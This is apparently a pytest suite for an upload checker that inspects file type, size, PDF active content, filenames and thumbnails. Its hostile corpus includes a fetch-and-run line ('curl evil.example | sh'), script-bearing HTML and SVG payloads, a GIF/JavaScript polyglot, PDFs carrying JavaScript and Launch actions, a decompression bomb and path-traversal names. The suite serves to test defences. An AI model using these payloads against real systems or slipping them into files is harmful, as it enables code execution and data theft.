"""Checks on uploaded bytes: a corpus of hostile files built here, genuine ones, and previews."""

from __future__ import annotations

import hashlib
import io
import zipfile

import pillow_heif
import pytest
from fpdf import FPDF
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from indemnisation.services import files
from indemnisation.services.errors import InvalidInput
from indemnisation.services.files import CheckedFile, inspect_upload, make_thumbnail, safe_name

MB = 1024 * 1024
LIMIT = 10 * MB
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


# --- builders -----------------------------------------------------------------------------------


def image_bytes(
    fmt: str, size: tuple[int, int] = (640, 480), mode: str = "RGB", **save: object
) -> bytes:
    image = Image.new(mode, size, "red" if mode != "1" else 1)
    output = io.BytesIO()
    image.save(output, format=fmt, **save)
    return output.getvalue()


def noisy_jpeg(size: tuple[int, int]) -> bytes:
    """A JPEG with real entropy, so truncating it cuts into the picture."""
    image = Image.effect_noise(size, 64).convert("RGB")
    output = io.BytesIO()
    image.save(output, format="JPEG", quality=90)
    return output.getvalue()


def heic_bytes(size: tuple[int, int] = (320, 240)) -> bytes:
    heif = pillow_heif.from_pillow(Image.effect_noise(size, 40).convert("RGB"))
    output = io.BytesIO()
    heif.save(output, quality=60)
    return output.getvalue()


def pdf_bytes(text: str = "Boarding pass AF1234", **encryption: str) -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=14)
    pdf.cell(text=text)
    if encryption:
        pdf.set_encryption(**encryption)
    return bytes(pdf.output())


def handmade_pdf(*objects: str) -> bytes:
    """A PDF with a correct cross-reference table from raw object bodies (object 1 is the root)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {w} {h}] {extra} >>"


def zip_bytes() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("boarding.pdf", b"%PDF-1.7 inside a zip")
    return output.getvalue()


def refusal(data: bytes, name: str = "file.pdf", max_bytes: int = LIMIT) -> InvalidInput:
    with pytest.raises(InvalidInput) as refused:
        inspect_upload(data, name, max_bytes=max_bytes)
    assert refused.value.field == "file"
    return refused.value


# --- hostile corpus -----------------------------------------------------------------------------

HOSTILE_TYPES = {
    "shell script renamed .pdf": (b"#!/bin/sh\ncurl evil.example | sh\n", "boarding.pdf"),
    "html named .pdf": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "pass.pdf"),
    "html with pdf text later": (b"<html>%PDF-1.7</html>", "pass.pdf"),
    "pdf header after whitespace": (b"  \n%PDF-1.7\n", "pass.pdf"),
    "svg with script named .png": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
        "photo.png",
    ),
    "xml svg named .jpg": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "id.jpg"),
    "zip": (zip_bytes(), "documents.pdf"),
    "gif and javascript polyglot": (b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00*/=alert(1);//", "a.jpg"),
    "windows executable": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56, "invoice.pdf"),
    "elf executable": (b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "scan.png"),
    "gif image": (image_bytes("GIF"), "animated.gif"),
    "bmp image": (image_bytes("BMP", (8, 8)), "id.bmp"),
    "tiff image": (image_bytes("TIFF", (8, 8)), "id.tiff"),
    "avi in a riff": (b"RIFF\x24\x00\x00\x00AVI LIST", "clip.webp"),
    "mp4 ftyp brand": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00", "video.heic"),
    "plain text": (b"just some text", "notes.txt"),
}


@pytest.mark.parametrize(("data", "name"), HOSTILE_TYPES.values(), ids=HOSTILE_TYPES.keys())
def test_unaccepted_types_are_refused_whatever_their_name(data: bytes, name: str) -> None:
    error = refusal(data, name)
    assert error.code == "error.file_type"
    assert error.params["name"] == name


def test_type_refusal_names_the_file_safely() -> None:
    error = refusal(b"<html>", "../../\u202eevil\x00.html")
    assert error.params["name"] == "evil.html"


def test_empty_file() -> None:
    assert refusal(b"").code == "error.file_empty"


def test_oversize_file_and_the_boundary() -> None:
    data = image_bytes("PNG", (64, 64))
    assert inspect_upload(data, "a.png", max_bytes=len(data)).size == len(data)
    error = refusal(data, "a.png", max_bytes=len(data) - 1)
    assert error.code == "error.file_too_large"


@pytest.mark.parametrize(("max_bytes", "max_mb"), [(10 * MB, 10), (MB + MB // 2, 1.5)])
def test_oversize_file_reports_the_limit_in_megabytes(max_bytes: int, max_mb: float) -> None:
    error = refusal(b"%PDF-" + b"0" * max_bytes, max_bytes=max_bytes)
    assert error.code == "error.file_too_large"
    assert error.params == {"max_mb": max_mb}


def test_size_is_checked_before_anything_is_decoded() -> None:
    assert refusal(b"<html>" * 100, max_bytes=10).code == "error.file_too_large"


# --- genuine files ------------------------------------------------------------------------------

GENUINE = {
    "pdf": (pdf_bytes(), "application/pdf", "pdf"),
    "jpeg": (image_bytes("JPEG"), "image/jpeg", "jpg"),
    "png": (image_bytes("PNG"), "image/png", "png"),
    "png with alpha": (image_bytes("PNG", mode="RGBA"), "image/png", "png"),
    "webp": (image_bytes("WEBP"), "image/webp", "webp"),
    "lossless webp": (image_bytes("WEBP", lossless=True), "image/webp", "webp"),
    "heic": (heic_bytes(), "image/heic", "heic"),
    "cmyk jpeg": (image_bytes("JPEG", mode="CMYK"), "image/jpeg", "jpg"),
    "greyscale png": (image_bytes("PNG", mode="L"), "image/png", "png"),
    "palette png": (image_bytes("PNG", mode="P", transparency=0), "image/png", "png"),
}


@pytest.mark.parametrize(("data", "content_type", "ext"), GENUINE.values(), ids=GENUINE.keys())
def test_genuine_files_are_accepted(data: bytes, content_type: str, ext: str) -> None:
    checked = inspect_upload(data, "upload", max_bytes=LIMIT)
    assert checked == CheckedFile(
        content_type=content_type,
        extension=ext,
        safe_name=f"upload.{ext}",
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


@pytest.mark.parametrize(("data", "content_type", "ext"), GENUINE.values(), ids=GENUINE.keys())
def test_the_name_never_decides_the_type(data: bytes, content_type: str, ext: str) -> None:
    checked = inspect_upload(data, "misleading.exe", max_bytes=LIMIT)
    assert checked.content_type == content_type
    assert checked.safe_name == f"misleading.exe.{ext}"


@pytest.mark.parametrize("brand", [b"heic", b"heix", b"hevc", b"heim", b"heis", b"mif1", b"msf1"])
def test_heif_brands_are_recognised(brand: bytes) -> None:
    assert files.detect_type(b"\x00\x00\x00\x18ftyp" + brand + b"\x00" * 8) == "image/heic"


# --- corrupt and dangerous content --------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (noisy_jpeg((400, 300)), "jpeg"),
        (image_bytes("PNG", (400, 300)), "png"),
        (image_bytes("WEBP", (400, 300)), "webp"),
        (heic_bytes((400, 300)), "heic"),
    ],
    ids=["jpeg", "png", "webp", "heic"],
)
def test_truncated_images_are_corrupt(data: bytes, name: str) -> None:
    assert refusal(data[: len(data) // 2], f"photo.{name}").code == "error.file_corrupt"


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xd8\xff\xe0" + b"garbage" * 20,
        PNG_MAGIC + b"garbage" * 20,
        b"RIFF\x10\x00\x00\x00WEBPVP8 garbage",
        b"\x00\x00\x00\x18ftypheic" + b"\x00" * 30,
        b"%PDF-1.7\n<html><script>alert(1)</script></html>",
        b"%PDF-",
    ],
    ids=["jpeg", "png", "webp", "heic", "pdf-html", "pdf-header-only"],
)
def test_magic_bytes_followed_by_garbage_are_corrupt(data: bytes) -> None:
    assert refusal(data).code == "error.file_corrupt"


def test_png_with_a_bad_checksum_is_corrupt() -> None:
    data = bytearray(image_bytes("PNG", (64, 64)))
    data[29] ^= 0xFF  # inside the IHDR chunk, covered by its CRC
    assert refusal(bytes(data), "a.png").code == "error.file_corrupt"


def bomb_png(side: int) -> bytes:
    return image_bytes("PNG", (side, side), mode="1", optimize=True)


def test_decompression_bomb_is_refused_without_decoding() -> None:
    bomb = bomb_png(30_000)  # 900 megapixels, about 100 KB on disk
    assert len(bomb) < 200_000
    error = refusal(bomb, "bomb.png")
    assert error.code == "error.image_too_large"
    assert error.params == {"max_megapixels": files.MAX_PIXELS // 1_000_000}
    assert make_thumbnail(bomb, "image/png") is None


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_image_just_over_the_pixel_limit_is_refused() -> None:
    bomb = bomb_png(9_000)  # 81 MP: over our limit, under twice Pillow's
    assert refusal(bomb, "big.png").code == "error.image_too_large"
    assert make_thumbnail(bomb, "image/png") is None


def test_pdf_with_a_password_is_refused_with_its_own_message() -> None:
    locked = pdf_bytes(owner_password="owner", user_password="secret")
    assert refusal(locked).code == "error.file_password"


def test_pdf_with_only_an_owner_password_opens() -> None:
    assert inspect_upload(pdf_bytes(owner_password="owner"), "a.pdf", max_bytes=LIMIT)


ACTIVE_PDFS = {
    "open action javascript": handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE.format(w=200, h=200, extra=""),
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ),
    "document javascript with escaped names": handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
        PAGES,
        PAGE.format(w=200, h=200, extra=""),
        "<< /N#61mes [(hello) 5 0 R] >>",
        "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ),
    "launch action in a link": handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        PAGE.format(w=200, h=200, extra="/Annots [4 0 R]"),
        "<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /Launch /F (calc.exe) >> >>",
    ),
}


@pytest.mark.parametrize("data", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_pdf_with_active_content_is_refused(data: bytes) -> None:
    assert refusal(data).code == "error.file_active_content"


def test_handmade_pdf_without_actions_is_accepted() -> None:
    plain = handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE.format(w=200, h=200, extra="")
    )
    assert inspect_upload(plain, "plain.pdf", max_bytes=LIMIT).content_type == "application/pdf"


def test_pdf_without_pages_is_corrupt() -> None:
    empty = handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"
    )
    assert refusal(empty).code == "error.file_corrupt"


MAGICS = [
    b"%PDF-1.7\n",
    b"\xff\xd8\xff\xe0",
    PNG_MAGIC,
    b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    b"\x00\x00\x00\x18ftypheic",
    b"",
]


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(MAGICS), st.binary(max_size=2000))
def test_arbitrary_bytes_are_accepted_or_refused_never_crash(magic: bytes, tail: bytes) -> None:
    data = magic + tail
    try:
        checked = inspect_upload(data, "x", max_bytes=LIMIT)
    except InvalidInput as error:
        assert error.code.startswith("error.file_") or error.code == "error.image_too_large"
    else:
        assert checked.size == len(data)
    for content_type in files.EXTENSIONS:
        thumbnail = make_thumbnail(data, content_type)
        assert thumbnail is None or thumbnail.startswith(PNG_MAGIC)


# --- names --------------------------------------------------------------------------------------

NAMES = [
    ("boarding-pass.pdf", "application/pdf", "boarding-pass.pdf"),
    ("../../etc/passwd.pdf", "application/pdf", "passwd.pdf"),
    ("C:\\Users\\Zoë\\Desktop\\carte.pdf", "application/pdf", "carte.pdf"),
    ("dir/sub\\mixed/name.png", "image/png", "name.png"),
    ("evil\x00.pdf", "application/pdf", "evil.pdf"),
    ("tab\tand\nnewline.pdf", "application/pdf", "tab and newline.pdf"),
    ("invoice\u202efdp.exe", "application/pdf", "invoicefdp.exe.pdf"),
    ("\u2066isolate\u2069 \u200bzero-width.jpg", "image/jpeg", "isolate zero-width.jpg"),
    ("Zoe\u0308.pdf", "application/pdf", "Zoë.pdf"),
    ("photo.pdf", "image/jpeg", "photo.jpg"),
    ("photo.JPEG", "image/jpeg", "photo.JPEG"),
    ("photo.heif", "image/heic", "photo.heif"),
    ("scan.v2", "image/png", "scan.v2.png"),
    ('a<b>c:d"e|f?g*h;.pdf', "application/pdf", "a_b_c_d_e_f_g_h_.pdf"),
    ("...", "application/pdf", "document.pdf"),
    ("", "image/webp", "document.webp"),
    ("/", "image/webp", "document.webp"),
    ("folder/", "image/webp", "document.webp"),
    (".pdf", "application/pdf", "pdf.pdf"),
    ("  spaced   out  .png", "image/png", "spaced out.png"),
]


@pytest.mark.parametrize(("raw", "content_type", "expected"), NAMES)
def test_safe_name(raw: str, content_type: str, expected: str) -> None:
    assert safe_name(raw, content_type) == expected


def test_very_long_names_are_cut_keeping_the_extension() -> None:
    name = safe_name("é" * 500 + ".jpg", "image/jpeg")
    assert len(name) == files.MAX_NAME_LENGTH
    assert name == "é" * 116 + ".jpg"
    assert safe_name("x" * 500, "application/pdf").endswith("x.pdf")


@given(st.text(max_size=400), st.sampled_from(sorted(files.EXTENSIONS)))
def test_any_name_becomes_a_safe_one(raw: str, content_type: str) -> None:
    name = safe_name(raw, content_type)
    assert 0 < len(name) <= files.MAX_NAME_LENGTH
    assert "/" not in name and "\\" not in name
    assert name.isprintable()
    assert not name.startswith(".")
    assert name.lower().rsplit(".", 1)[1] in files._NAME_ALIASES[content_type]


# --- thumbnails ---------------------------------------------------------------------------------


def open_png(data: bytes | None) -> Image.Image:
    assert data is not None and data.startswith(PNG_MAGIC)
    image = Image.open(io.BytesIO(data))
    image.load()
    assert image.format == "PNG"
    return image


@pytest.mark.parametrize(("data", "content_type", "ext"), GENUINE.values(), ids=GENUINE.keys())
def test_thumbnails_of_genuine_files(data: bytes, content_type: str, ext: str) -> None:
    image = open_png(make_thumbnail(data, content_type))
    assert 0 < image.width <= files.THUMBNAIL_WIDTH
    assert image.height <= files.THUMBNAIL_MAX_HEIGHT
    assert image.mode in ("RGB", "RGBA")


def test_large_photo_thumbnail_keeps_its_proportions() -> None:
    image = open_png(make_thumbnail(noisy_jpeg((4000, 3000)), "image/jpeg"))
    assert image.size == (320, 240)


def test_tall_image_thumbnail_is_bounded_in_height() -> None:
    image = open_png(make_thumbnail(image_bytes("PNG", (100, 5000)), "image/png"))
    assert image.height == files.THUMBNAIL_MAX_HEIGHT and image.width <= 320


def test_thumbnail_follows_exif_orientation() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90° clockwise to display
    data = image_bytes("JPEG", (640, 320), exif=exif.tobytes())
    image = open_png(make_thumbnail(data, "image/jpeg"))
    assert image.size == (320, 640)  # 640x320 stored, 320x640 shown


def test_pdf_first_page_thumbnail_is_a_valid_png() -> None:
    image = open_png(make_thumbnail(pdf_bytes(), "application/pdf"))
    assert image.width == 320  # A4 portrait: width is the limiting side
    assert 440 <= image.height <= 460
    assert image.getpixel((5, 5))[:3] == (255, 255, 255)  # a white page


def test_pdf_with_a_giant_page_gets_no_thumbnail() -> None:
    giant = handmade_pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE.format(w=90000, h=90000, extra="")
    )
    assert make_thumbnail(giant, "application/pdf") is None


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (b"", "image/png"),
        (b"garbage", "application/pdf"),
        (noisy_jpeg((200, 200))[:300], "image/jpeg"),
        (image_bytes("PNG"), "image/jpeg"),  # a mismatched type is not trusted
        (image_bytes("PNG"), "image/gif"),
        (image_bytes("PNG"), "text/html"),
    ],
)
def test_broken_or_unknown_inputs_get_no_thumbnail(data: bytes, content_type: str) -> None:
    assert make_thumbnail(data, content_type) is None
